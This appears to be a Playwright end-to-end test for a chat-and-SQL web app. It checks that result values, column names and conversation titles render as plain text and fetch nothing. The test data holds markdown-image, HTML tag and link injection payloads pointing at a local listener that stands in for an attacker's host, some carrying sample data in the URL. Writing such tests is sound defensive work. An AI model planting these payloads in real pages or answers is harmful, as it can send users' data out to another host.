"""In a real browser, data values never become markup (issue 18, item 5): a value such as
`![x](http://127.0.0.1:<port>/leak)` in a result, a column name or a conversation's name
draws no <img> or <a>, no LaTeX, icon or coloured text, and nothing requests a local
listener standing in for another host, whatever the page draws (sentence, KPI label,
Plotly chart, sidebar, heading).
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Locator, Page, expect

from backend.charts.names import humanise
from tests.e2e.conftest import ADMIN
from tests.e2e.helpers import login
from tests.e2e.test_chat import new_turn, settle, turns
from tests.support.app_server import AppServer

WORD_JOINER = "\u2060"
# Every element that could fetch or link, and the address it would use.
_REFERENCES = """(host) => [...document.querySelectorAll(
    'img, image, a, iframe, source, video, audio, link, script, object, embed, use')]
  .map(e => [e.tagName, e.getAttribute('src') || e.getAttribute('href')
             || e.getAttribute('xlink:href') || e.getAttribute('data') || ''])
  .filter(([, url]) => url.includes(host))"""


class Listener:
    """A local HTTP server standing in for an attacker's host; it notes every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        yield server


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def run_sql(page: Page, sql: str) -> Locator:
    settle(page)
    own = page.get_by_test_id("stExpander").filter(has_text="Write SQL yourself")
    if not own.get_by_role("textbox", name="SQL").is_visible():
        own.locator("summary").click()
    own.get_by_role("textbox", name="SQL").fill(sql)
    before = turns(page).count()
    own.get_by_role("button", name="Run SQL").click()
    return new_turn(page, before)


def shown(locator: Locator) -> str:
    return locator.inner_text().replace(WORD_JOINER, "")


def assert_nothing_leaks(page: Page, listener: Listener) -> None:
    assert page.evaluate(_REFERENCES, listener.host) == []
    assert page.locator(".katex, [data-testid='stMarkdownContainer'] img").count() == 0
    assert listener.requests == []


def test_values_names_and_titles_draw_no_markup_and_fetch_nothing(
    page: Page, app: AppServer, listener: Listener
) -> None:
    leak = f"http://{listener.host}"
    bars = [
        f"![x]({leak}/img?names=Ada,Bob)",
        f'<img src="{leak}/html">',
        f'<a href="{leak}/plotly">p</a>',
        f"<img src={leak}/plotly-img>",
    ]
    directives = [
        f"[click]({leak}/link) <{leak}/auto> {leak}/bare",
        ":red[red] :material/home: :smile: $x^2$ # no heading",
    ]
    login(page, app, *ADMIN)
    page.get_by_role("button", name="New conversation").click()
    settle(page)

    for labels in (bars, directives):
        rows = [f"SELECT {_quoted(label)} AS label, {9 - n} AS n" for n, label in enumerate(labels)]
        rows += [f"SELECT 'plain {n}', 1" for n in range(6)]  # enough for bars, not a donut
        answer = run_sql(page, " UNION ALL ".join(rows))
        expect(answer.get_by_test_id("stPlotlyChart")).to_be_visible()
        text = shown(answer)
        for label in labels[:2]:  # the sentence names the two biggest
            assert label in text, (label, text)
        assert_nothing_leaks(page, listener)
    chart = shown(turns(page).nth(0).get_by_test_id("stPlotlyChart"))
    assert f'<a href="{leak}/plotly">p</a>' in chart  # the category, as its characters

    name = f"![k]({leak}/kpi) :red[k] $k$"
    kpi = run_sql(page, f'SELECT 5 AS "{name}"')
    expect(kpi.get_by_test_id("stMetric")).to_be_visible()
    assert shown(kpi.get_by_test_id("stMetric")).startswith(humanise(name))
    assert_nothing_leaks(page, listener)

    title = f"![t]({leak}/title) :red[t]"
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_role("button", name="Rename or delete").click()
    page.get_by_role("textbox", name="Name").fill(title)
    page.get_by_role("button", name="Rename", exact=True).click()
    settle(page)
    heading = page.get_by_role("heading").filter(has_text="/title)")  # ":" + WORD JOINER
    expect(heading).to_have_count(1)
    assert shown(heading) == title
    assert title in shown(sidebar)
    assert_nothing_leaks(page, listener)
